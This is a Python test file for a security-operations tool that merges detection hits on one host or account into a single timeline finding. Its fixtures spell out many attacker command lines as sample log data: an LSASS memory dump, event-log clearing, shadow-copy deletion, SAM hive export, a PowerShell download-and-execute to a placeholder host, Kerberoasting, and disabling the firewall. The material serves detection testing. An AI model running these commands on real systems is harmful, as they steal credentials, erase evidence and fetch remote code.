"""Hits of one host or account as one finding with a timeline, before the single findings."""

from __future__ import annotations

import datetime as dt

from soc_tui.analysts.offline import run_rules
from soc_tui.model.finding import Confidence, Finding, Severity
from soc_tui.model.rows import Rows
from tests.analysts.offline.sigma.rows_by_hand import START, make_rows

PROCESS = "DeviceProcessEvents"
DUMP = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 7 C:\x.bin full"


def process(line: str, minute: float, host: str = "pc-1", **more: object) -> dict[str, object]:
    return {
        "TimeGenerated": START + dt.timedelta(minutes=minute),
        "DeviceName": host,
        "FileName": line.split()[0],
        "FolderPath": rf"C:\Windows\System32\{line.split()[0]}",
        "ProcessCommandLine": line,
        "InitiatingProcessFileName": "explorer.exe",
        "InitiatingProcessId": 7,
        "AccountName": "ann",
        "SHA256": "a" * 64,
        "ProcessVersionInfoOriginalFileName": "",
        **more,
    }


INTRUSION = [
    process("wevtutil.exe cl Security", 50),
    process("schtasks.exe /create /tn x /tr powershell", 20),
    process(DUMP, 30, host="PC-1"),
    process("notepad.exe", 10),
    process("wevtutil.exe cl System", 55),
]


def found(rows: Rows, table: str = PROCESS) -> list[Finding]:
    return [one for one in run_rules(rows, table) if isinstance(one, Finding)]


def stories(rows: Rows, table: str = PROCESS) -> list[Finding]:
    return [one for one in found(rows, table) if "timeline" in one.tags]


def test_steps_of_one_host_come_first_in_order_of_time_and_each_cites_its_row() -> None:
    findings = found(make_rows(INTRUSION))
    story = findings[0]
    assert story.title == "Likely intrusion on pc-1: 3 steps in 3 tactics"
    assert [one.row_id for one in story.evidence] == ["r2", "r3", "r1"]
    assert story.grounded and story.doubts == ()
    assert [one.id for one in story.mitre] == ["T1053.005", "T1003.001", "T1685.005"]
    assert story.severity is Severity.CRITICAL and story.confidence is Confidence.HIGH
    lines = story.description.splitlines()
    assert lines[0].startswith("3 steps from 2026-11-20 08:20:00 UTC to 2026-11-20 08:55:00 UTC")
    assert "Accounts: ann." in lines
    steps = [line for line in lines if line[0].isdigit() and line[1] == "."]
    assert [line.split("  ")[0] for line in steps] == [
        "1. 2026-11-20 08:20:00 UTC", "2. 2026-11-20 08:30:00 UTC", "3. 2026-11-20 08:50:00 UTC",
    ]  # fmt: skip
    assert "(T1003.001" in steps[1] and "(r3)" in steps[1]
    assert steps[2].endswith("[2 rows until 2026-11-20 08:55:00 UTC]")


def test_the_single_findings_stay_and_say_what_they_are_part_of() -> None:
    story, *single = found(make_rows(INTRUSION))
    assert {one.title.split(":")[0] for one in single} >= {
        "LSASS memory dumped", "Event log cleared",
        "Scheduled task that runs a script or a dropped program",
    }  # fmt: skip
    assert all(f"Part of: {story.title}." in one.notes for one in single)
    assert all(one.grounded for one in single)


def test_one_event_that_several_rules_see_is_one_step() -> None:
    rows = make_rows(
        [
            process("powershell.exe IEX(iwr http://a.example)", 1,
                    InitiatingProcessFileName="winword.exe"),
            process(DUMP, 2),
        ]
    )  # fmt: skip
    assert len(found(rows)) >= 3
    assert stories(rows) == []


def test_hosts_are_told_apart_and_little_of_each_is_no_story() -> None:
    rows = make_rows([{**row, "DeviceName": f"pc-{i}"} for i, row in enumerate(INTRUSION)])
    assert len(found(rows)) == 4
    assert stories(rows) == []


def test_without_something_grave_there_is_no_story() -> None:
    rows = make_rows(
        [
            process("net.exe user tech Pa55word! /add", 1),
            process("reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x", 2),
            process("anydesk.exe", 3),
        ]
    )
    assert len(found(rows)) == 3
    assert stories(rows) == []


def test_rows_without_a_time_have_no_order_to_tell() -> None:
    untimed = [{k: v for k, v in row.items() if k != "TimeGenerated"} for row in INTRUSION]
    rows = make_rows(untimed)
    rows = Rows(rows.table.drop_columns(["TimeGenerated"]), rows.columns[1:])
    assert found(rows)
    assert stories(rows) == []


def test_rows_without_a_host_are_told_by_account() -> None:
    base = {"Caller": "ann@b.example", "CallerIpAddress": "203.0.113.9", "ResourceId": "/x",
            "Properties": "", "ActivityStatusValue": "Success"}  # fmt: skip
    rows = make_rows(
        [
            {**base, "OperationNameValue": operation}
            for operation in (
                "MICROSOFT.AUTHORIZATION/ELEVATEACCESS/ACTION",
                "MICROSOFT.AUTHORIZATION/LOCKS/DELETE",
                "MICROSOFT.COMPUTE/DISKS/BEGINGETACCESS/ACTION",
            )
        ]
    )
    (story,) = stories(rows, "AzureActivity")
    assert story.title == "Likely intrusion via ann@b.example: 3 steps in 3 tactics"
    assert "Addresses: 203.0.113.9." in story.description
    assert story.grounded


def test_rows_of_several_tables_make_one_story() -> None:
    def row(table: str, minute: int, **cells: object) -> dict[str, object]:
        time = START + dt.timedelta(minutes=minute)
        return {"TimeGenerated": time, "Type": table, "DeviceName": "pc-1", **cells}

    blank = dict.fromkeys(
        ("RemoteIPType", "RemoteUrl", "InitiatingProcessFolderPath", "FileName", "FolderPath",
         "InitiatingProcessCommandLine", "ActionType", "ProcessCommandLine"), ""
    )  # fmt: skip
    rows = make_rows(
        [
            row("DeviceNetworkEvents", 1, **{**blank, "RemoteIPType": "Public", "RemoteUrl":
                "a.example", "InitiatingProcessFolderPath": r"C:\Users\Public\x.exe"}),
            row("DeviceFileEvents", 2, **{**blank, "FileName": "lsass.dmp"}),
            row(PROCESS, 3, **{**blank, "FileName": "wevtutil.exe",
                               "ProcessCommandLine": "wevtutil cl Security"}),
            row(PROCESS, 4, **{**blank, "FileName": "lsass.dmp"}),
        ]
    )  # fmt: skip
    story, *single = found(rows, table="")
    assert story.title == "Likely intrusion on pc-1: 3 steps in 3 tactics"
    assert [one.row_id for one in story.evidence] == ["r1", "r2", "r3"]
    written = next(one for one in single if one.title.startswith("LSASS memory dump written"))
    assert [one.row_id for one in written.evidence] == ["r2"]


def test_many_steps_are_cut_to_the_gravest_and_the_rest_is_counted() -> None:
    lines = [
        DUMP, "wevtutil.exe cl Security", "vssadmin.exe delete shadows", "reg.exe save HKLM\\SAM x",
        "net.exe user tech Pa55word! /add", "anydesk.exe", "net.exe stop mssql",
        "schtasks.exe /create /tn x /tr powershell", "wmic.exe process call create x",
        "rclone.exe copy a b", "certutil.exe -urlcache -f http://a.example/x x",
        "7z.exe a -psecret x.7z d", "netsh.exe advfirewall set allprofiles state off",
        "psexec.exe \\\\srv-1 -s cmd", "nltest.exe /domain_trusts", "findstr.exe /si passw *.xml",
        "x.exe Invoke-Kerberoast", "x.exe Invoke-BloodHound", "x.exe AmsiScanBuffer",
        "esentutl.exe /y a /vss", "bcdedit.exe /set safeboot minimal", "tscon.exe 2 /dest:rdp",
        "sc.exe \\\\srv-1 start x",
    ]  # fmt: skip
    rows = make_rows([process(line, i) for i, line in enumerate(lines)])
    (story,) = stories(rows)
    assert len(story.evidence) == 20
    assert f": {len(lines)} steps in" in story.title
    assert f"{len(lines) - 20} lower-severity steps are not shown here." in story.description


def test_hostile_cells_stay_inert_in_a_story() -> None:
    rows = make_rows(
        [{**row, "DeviceName": "pc\x1b[2J\n9. 2026", "AccountName": "a\nb"} for row in INTRUSION]
    )
    (story,) = stories(rows)
    assert "\x1b" not in story.title + story.description
    assert len(story.description.splitlines()) == 2 + 4  # the escape sequence is a step as well
    assert story.grounded
